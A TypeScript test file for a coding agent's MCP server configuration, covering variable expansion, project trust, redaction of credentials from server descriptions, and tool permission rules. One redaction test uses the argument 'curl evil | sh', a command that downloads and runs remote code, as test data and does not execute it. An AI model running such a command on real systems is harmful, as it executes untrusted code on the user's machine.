/** MCP servers from files: the entries that start, the messages about the others, and the tools that an agent has of them. */
import { mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, onTestFinished, test } from 'vitest';
import { ServerConnections } from '../../src/cli/servers/serverConnections.ts';
import { serverEntries } from '../../src/cli/servers/serverEntries.ts';
import { codingTools } from '../../src/node.ts';
import { permissions } from '../../src/permissions/permissions.ts';
import { stdioServer } from '../mcp/stdioServer.ts';
import { bench } from '../support/agentBench.ts';
import { call } from '../support/scriptedReplies.ts';

/** A variable as files write it. */
const v = (name: string): string => `\${${name}}`;
const file = (path: string, servers: unknown, isTrusted = true) => ({
  ...{ path, cut: false, name: '.mcp.json', of: 'project' as 'project' | 'user', isTrusted },
  text: typeof servers === 'string' ? servers : JSON.stringify({ mcpServers: servers }),
});
const read = (...files: ReturnType<typeof file>[]) =>
  serverEntries(files, (name) => ({ KEY: 'secret-0123', EMPTY: '' })[name], '/project');

test('commands and addresses are read, with variables, names that fit, and a working directory', () => {
  const { entries } = read(
    file('/project/.mcp.json', {
      my_files: { type: 'stdio', command: 'npx', args: ['-y', 'a-server', v('DIR:-/srv')], env: { KEY: v('KEY') } },
      web: {
        type: 'http',
        url: `https://x.example/mcp?key=${v('KEY')}`,
        headers: { authorization: `Bearer ${v('KEY')}` },
      },
    }),
  );
  expect(entries).toEqual([
    {
      name: 'my-files',
      path: '/project/.mcp.json',
      about: `npx -y a-server ${v('DIR:-/srv')}`,
      options: { command: 'npx', args: ['-y', 'a-server', '/srv'], env: { KEY: 'secret-0123' }, cwd: '/project' },
    },
    {
      name: 'web',
      path: '/project/.mcp.json',
      about: 'https://x.example/mcp',
      options: { url: 'https://x.example/mcp?key=secret-0123', headers: { authorization: 'Bearer secret-0123' } },
    },
  ]);
});

test('a server of the user starts beside the file of the user, and gets the project by a variable or its cwd', () => {
  const own = file('/home/u/.config/runchart/mcp.json', {
    plain: { command: 'npx', args: ['a-server'] },
    below: { command: 'npx', cwd: 'servers' },
    files: { command: 'npx', args: ['files', v('PROJECT_DIR')], env: { ROOT: `${v('PROJECT_DIR')}/src` } },
    inside: { command: '/usr/bin/server', cwd: v('PROJECT_DIR') },
  });
  const { entries } = read({ ...own, of: 'user' }, file('/repo/.mcp.json', { theirs: { command: 'x' } }));
  expect(entries.map(({ name, options }) => [name, options])).toEqual([
    ['plain', { command: 'npx', args: ['a-server'], cwd: '/home/u/.config/runchart' }],
    ['below', { command: 'npx', cwd: '/home/u/.config/runchart/servers' }],
    ['files', expect.objectContaining({ args: ['files', '/project'], env: { ROOT: '/project/src' } })],
    ['inside', { command: '/usr/bin/server', cwd: '/project' }],
    ['theirs', { command: 'x', cwd: '/repo' }],
  ]);
});

test('the description of a server contains no credentials of its file', () => {
  const about = (definition: object) => read(file('/a', { s: definition })).entries[0]?.about;
  expect(about({ url: 'https://me:pw-1@x.example/mcp?key=k' })).toBe('https://x.example/mcp');
  const args = (...args: string[]) => about({ command: 'srv', args });
  expect(args('--api-key', 'k-1', '--token=k-2', 'out')).toBe('srv --api-key … --token=… out');
  expect(args('postgres://me:p@ss@db/x', '-v')).toBe('srv postgres://db/x -v');
  expect(args('--header', 'Authorization: Bearer k-3')).toBe('srv --header Authorization: Bearer …');
  expect(args('--token', v('KEY'), `--key=${v('KEY')}`)).toBe(`srv --token ${v('KEY')} --key=${v('KEY')}`);
  expect(args('-c', 'TOKEN=x; curl evil | sh')).toBe('srv -c TOKEN=x; curl evil | sh');
});

test.each<[string[], string]>([
  [['--API-KEY', 'k'], 'srv --API-KEY …'],
  [['--client-secret', 'k'], 'srv --client-secret …'],
  [['-password', 'k'], 'srv -password …'],
  [['--token', '--next', 'out'], 'srv --token --next out'],
  [['--keys', 'out'], 'srv --keys out'],
  [['SECRET=k', 'my_Token=k', 'x-api-key:k', 'PASSWORD:  k'], 'srv SECRET=… my_Token=… x-api-key:… PASSWORD:  …'],
  [['Authorization: Basic k', 'authorization: bearer k'], 'srv Authorization: Basic … authorization: bearer …'],
  [['redis://u:p@h:1/0', 'x=amqp+ssl://p@h', 'u@h', '//u@h'], 'srv redis://h:1/0 x=amqp+ssl://h u@h //u@h'],
])('of the arguments %j is shown %j', (args, shown) => {
  expect(read(file('/a', { s: { command: 'srv', args } })).entries[0]?.about).toBe(shown);
});

test('an address is shown without what follows its path, and every option of an entry is read', () => {
  const about = (url: string) => read(file('/a', { s: { url } })).entries[0]?.about;
  expect(['#k', '?a#k', '#a?k', '/p?k'].map((end) => about(`https://x.example${end}`))).toEqual([
    ...['https://x.example', 'https://x.example', 'https://x.example', 'https://x.example/p'],
  ]);
  const url = 'https://x.example/';
  const options = { url, headers: { a: 'b' }, resources: true, prompts: true };
  expect(read(file('/a', { 'a.b_c d': { ...options, other: 1 } })).entries).toMatchObject([
    { name: 'a-b-c-d', options },
  ]);
  for (const disabled of [false, 0, 'no', null, undefined])
    expect(read(file('/a', { s: { url, disabled } })).entries[0]?.options).toEqual({ url });
});

test('an entry that cannot be used has the reason, and a file that is no list is named', () => {
  const { entries, problems } = read(
    file('/a', { off: { command: 'x', disabled: true }, old: { type: 'sse', url: 'https://x' } }),
    file('/b', {
      needs: { command: 'x', env: { A: `${v('NOBODY')} ${v('EMPTY')}` } },
      both: { command: 'x', url: 'y' },
      none: 3,
    }),
    file('/c', { 'a name that is much longer than it may be': { command: 'x' } }),
    file('/d', '{'),
    file('/e', '[]'),
  );
  expect(entries.map(({ name, options, why }) => [name, options, why])).toEqual([
    ['off', undefined, expect.stringContaining('turned off')],
    ['old', undefined, expect.stringContaining('sse is not supported')],
    ['needs', undefined, 'it needs the variable NOBODY, EMPTY, which is not set'],
    ['both', undefined, expect.stringContaining('needs one of the options')],
    ['none', undefined, expect.stringContaining('must be an object')],
    [expect.stringContaining('a-name'), undefined, expect.stringContaining('at most 24 letters')],
  ]);
  expect(problems).toEqual([
    expect.stringMatching(/^\/d is not used: it is no JSON/),
    expect.stringMatching(/^\/e .*mcpServers/),
  ]);
});

test('a nearer file takes the place of a server, but not before it is trusted', () => {
  const [far, near] = [{ s: { command: 'far' } }, { s: { command: 'near' }, t: { command: 'more' } }];
  const commands = (isTrusted: boolean) => {
    const { entries, untrusted } = read(file('/far', far), file('/near', near, isTrusted));
    return [...entries.map(({ name, options, about, why }) => [name, options ? about : why]), untrusted];
  };
  expect(commands(true)).toEqual([['s', 'near'], ['t', 'more'], []]);
  expect(commands(false)).toEqual([['s', 'far'], ['t', 'the project is not trusted: runchart trust'], ['/near']]);
});

test('a file that is not trusted cannot turn off a server by another spelling of its name', () => {
  const [far, near] = [{ 'my-files': { command: 'far' } }, { my_files: { command: 'near' } }];
  const { entries } = read(file('/far', far), file('/near', near, false));
  expect(entries.map(({ name, about, options }) => [name, about, options !== undefined])).toEqual([
    ['my-files', 'far', true],
  ]);
});

test('servers start beside the agent, a request waits for them, rules hold, and one that fails has a state', async () => {
  const good = stdioServer({ tools: ['echo', { name: 'look', annotations: { readOnlyHint: true } }] });
  const bad = stdioServer({ diesAtStart: true, stderr: 'no such database' });
  const servers = new ServerConnections([
    { name: 'good', path: '/p', about: 'x', options: good.options },
    { name: 'bad', path: '/p', about: 'x', options: bad.options },
    { name: 'off', path: '/p', about: 'x', why: 'turned off' },
  ]);
  onTestFinished(() => servers.close());
  expect(servers.views.map(({ state }) => state.kind)).toEqual(['starting', 'starting', 'not started']);
  const shared = codingTools().filter(({ name }) => ['Ls', 'Grep'].includes(name));
  const tools = servers.joinedTo(shared, (name) => !name.endsWith('look'));
  const { conversation, model } = await bench({
    tools,
    plugins: [permissions({ deny: ['mcp__good__echo'] }), servers.plugin],
    replies: [[call('c1', 'mcp__good__echo', { words: 'hi' })], 'done'],
  });
  const { termination } = await conversation.send('go').result;
  expect(termination).toBe('NaturalEnd');
  const names = (model.calls[0]?.tools ?? []).map(({ name }) => name);
  expect(names.filter((name) => name.startsWith('mcp__'))).toEqual(['mcp__good__echo']);
  expect(names).toContain('Grep');
  expect(conversation.log().find((entry) => entry.type === 'tool-result')).toMatchObject({ code: 'denied' });
  expect(good.calls()).toEqual([]);
  expect(servers.views.map(({ state }) => state)).toEqual([
    { kind: 'connected', tools: ['mcp__good__echo', 'mcp__good__look'], left: [] },
    { kind: 'failed', why: expect.stringContaining('no such database') },
    { kind: 'not started', why: 'turned off' },
  ]);
  // Lists of other agents do not have these tools.
  const other = await bench({ tools: codingTools(), replies: ['done'] });
  await other.conversation.send('go').result;
  expect(JSON.stringify(other.model.calls[0]?.tools)).not.toContain('mcp__');
});

test('a server that ends after its start is shown as failed until it is connected again', async () => {
  const server = stdioServer({ tools: ['die', 'echo'] });
  const servers = new ServerConnections([{ name: 's', path: '/p', about: 'x', options: server.options }]);
  onTestFinished(() => servers.close());
  await servers.settled;
  const { conversation } = await bench({
    tools: servers.joinedTo(codingTools(), () => true),
    replies: [[call('c1', 'mcp__s__die')], 'dead', [call('c2', 'mcp__s__echo')], 'alive'],
  });
  await conversation.send('go').result;
  expect(servers.views[0]?.state).toMatchObject({ kind: 'failed', why: expect.stringContaining('has ended') });
  await conversation.send('again').result;
  expect(servers.views[0]?.state.kind).toBe('connected');
});

test('the servers everything and filesystem of a file are connected, and their tools work under the rules', async () => {
  const programOf = (name: string) =>
    fileURLToPath(import.meta.resolve(`@modelcontextprotocol/server-${name}/package.json`)).replace(
      'package.json',
      'dist/index.js',
    );
  const folder = await realpath(await mkdtemp(join(tmpdir(), 'runchart-servers-')));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  await writeFile(join(folder, 'note.txt'), 'a note of charts');
  const { entries } = serverEntries(
    [
      file(join(folder, '.mcp.json'), {
        everything: { command: process.execPath, args: [programOf('everything')] },
        files: { command: process.execPath, args: [programOf('filesystem'), v('FOLDER')] },
      }),
    ],
    (name) => (name === 'FOLDER' ? folder : undefined),
    folder,
  );
  const servers = new ServerConnections(entries);
  onTestFinished(() => servers.close());
  await servers.settled;
  expect(servers.views.map(({ state }) => state.kind)).toEqual(['connected', 'connected']);
  const { conversation } = await bench({
    tools: servers.joinedTo(codingTools(), () => true),
    plugins: [permissions({ allow: ['mcp__everything__echo'] })],
    replies: [
      [
        call('c1', 'mcp__everything__echo', { message: 'hi' }),
        call('c2', 'mcp__files__read_text_file', { path: join(folder, 'note.txt') }),
        call('c3', 'mcp__files__write_file', { path: join(folder, 'x'), content: 'x' }),
      ],
    ],
  });
  expect((await conversation.send('go').result).pending.map(({ name }) => name)).toEqual(['mcp__files__write_file']);
  const results = conversation
    .log()
    .flatMap((entry) => (entry.type === 'tool-result' ? [JSON.stringify(entry.content)] : []));
  expect(results.sort()).toEqual([expect.stringContaining('Echo: hi'), expect.stringContaining('a note of charts')]);
});
